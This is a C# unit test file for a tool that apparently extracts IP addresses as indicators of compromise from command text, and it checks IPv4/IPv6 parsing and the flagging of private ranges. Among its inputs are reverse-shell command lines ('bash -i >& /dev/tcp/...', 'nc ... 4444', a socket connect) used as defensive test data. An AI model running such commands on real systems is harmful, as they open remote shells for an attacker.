using B64Hunt.Iocs;
using Xunit;
using static B64Hunt.Tests.Iocs.IocTestSupport;

namespace B64Hunt.Tests.Iocs
{
    public class IpExtractionTests
    {
        [Theory]
        [InlineData("nc 8.8.8.8 4444", "8.8.8.8")]
        [InlineData("s.connect((\"93.184.216.34\",4242))", "93.184.216.34")]
        [InlineData("bash -i >& /dev/tcp/93.184.216.34/4444 0>&1", "93.184.216.34")]
        [InlineData("ping 255.255.255.254.", "255.255.255.254")]
        [InlineData("ssh root@93.184.216.34", "93.184.216.34")]
        [InlineData("dig @1.1.1.1 x", "1.1.1.1")]
        [InlineData("iptables -A INPUT -s 93.184.216.0/24", "93.184.216.0")]
        [InlineData("curl 93.184.216.34:8080/x", "93.184.216.34")]
        public void ValidIpv4AddressesAreFound(string text, string ip)
        {
            Single(text, IocTypeNames.Ipv4, ip);
        }

        [Theory]
        [InlineData("ping 256.1.1.1")]
        [InlineData("ping 1.1.1.999")]
        [InlineData("ping 1.2.3")]
        [InlineData("snmpget 1.3.6.1.2.1")]
        [InlineData("ping 1.2.3.4.5")]
        [InlineData("ping 010.1.1.1")]
        [InlineData("ping 1.02.3.4")]
        [InlineData("echo v1.2.3.4")]
        [InlineData("echo 1111.1.1.1")]
        public void InvalidOrAmbiguousIpv4IsNotReported(string text)
        {
            Assert.Empty(Of(text, IocTypeNames.Ipv4));
        }

        [Theory]
        [InlineData("0.1.2.3")]
        [InlineData("10.0.0.1")]
        [InlineData("100.64.0.1")]
        [InlineData("100.127.255.254")]
        [InlineData("127.0.0.1")]
        [InlineData("169.254.169.254")]
        [InlineData("172.16.0.1")]
        [InlineData("172.31.255.255")]
        [InlineData("192.0.0.8")]
        [InlineData("192.0.2.10")]
        [InlineData("192.88.99.1")]
        [InlineData("192.168.1.1")]
        [InlineData("198.18.0.1")]
        [InlineData("198.19.255.1")]
        [InlineData("198.51.100.7")]
        [InlineData("203.0.113.9")]
        [InlineData("224.0.0.251")]
        [InlineData("239.255.255.250")]
        [InlineData("240.0.0.1")]
        [InlineData("255.255.255.255")]
        public void PrivateReservedAndDocumentationIpv4AreFlagged(string ip)
        {
            Assert.True(Single("nc " + ip + " 80", IocTypeNames.Ipv4, ip).IsPrivate);
        }

        [Theory]
        [InlineData("1.1.1.1")]
        [InlineData("8.8.8.8")]
        [InlineData("100.63.255.255")]
        [InlineData("100.128.0.1")]
        [InlineData("172.15.255.255")]
        [InlineData("172.32.0.1")]
        [InlineData("192.0.3.1")]
        [InlineData("198.17.255.255")]
        [InlineData("198.20.0.1")]
        [InlineData("203.0.114.1")]
        [InlineData("223.255.255.255")]
        public void PublicIpv4IsNotFlagged(string ip)
        {
            Assert.False(Single("nc " + ip + " 80", IocTypeNames.Ipv4, ip).IsPrivate);
        }

        [Theory]
        [InlineData("ping6 2001:4860:4860::8888", "2001:4860:4860::8888")]
        [InlineData("ping6 2001:4860:4860:0:0:0:0:8888", "2001:4860:4860::8888")]
        [InlineData("curl -g [2606:4700:4700::1111]:443", "2606:4700:4700::1111")]
        [InlineData("echo 2606:4700::6810:84e5.", "2606:4700::6810:84e5")]
        [InlineData("nc ::ffff:8.8.8.8 80", "::ffff:8.8.8.8")]
        public void Ipv6AddressesAreParsedAndNormalised(string text, string ip)
        {
            Single(text, IocTypeNames.Ipv6, ip);
        }

        [Theory]
        [InlineData("echo ::")]
        [InlineData("sleep until 12:30:45")]
        [InlineData("ip link set dev eth0 address 00:1a:2b:3c:4d:5e")]
        [InlineData("perl -MIO::Socket -e 1")]
        [InlineData("std::string s; a::b")]
        [InlineData("echo dead::beef")]
        [InlineData("echo 1:2:3:4:5:6:7:8:9")]
        [InlineData("echo 2001:db8:::1")]
        [InlineData("echo 2001:4860::8888g")]
        public void NonAddressesAreNotIpv6(string text)
        {
            Assert.Empty(Of(text, IocTypeNames.Ipv6));
        }

        [Fact]
        public void AMappedAddressIsNotAlsoReportedAsIpv4()
        {
            Assert.Empty(Of("nc ::ffff:8.8.8.8 80", IocTypeNames.Ipv4));
        }

        [Theory]
        [InlineData("::1", "::1")]
        [InlineData("fe80::1", "fe80::1")]
        [InlineData("fc00::1", "fc00::1")]
        [InlineData("fd12:3456:789a::1", "fd12:3456:789a::1")]
        [InlineData("ff02::1", "ff02::1")]
        [InlineData("2001:db8::1", "2001:db8::1")]
        [InlineData("2001:0:4136:e378::1", "2001:0:4136:e378::1")]
        [InlineData("3fff::1", "3fff::1")]
        [InlineData("100::1", "100::1")]
        [InlineData("::ffff:10.0.0.1", "::ffff:10.0.0.1")]
        [InlineData("::ffff:192.168.1.1", "::ffff:192.168.1.1")]
        [InlineData("64:ff9b::a00:1", "64:ff9b::a00:1")]
        public void PrivateAndReservedIpv6AreFlagged(string ip, string normalized)
        {
            Assert.True(Single("nc " + ip + " 80", IocTypeNames.Ipv6, normalized).IsPrivate);
        }

        [Theory]
        [InlineData("2001:4860:4860::8888")]
        [InlineData("2a00:1450:4001:80b::200e")]
        [InlineData("::ffff:8.8.8.8")]
        [InlineData("64:ff9b::808:808")]
        public void PublicIpv6IsNotFlagged(string ip)
        {
            Assert.False(Single("nc " + ip + " 80", IocTypeNames.Ipv6, ip).IsPrivate);
        }
    }
}
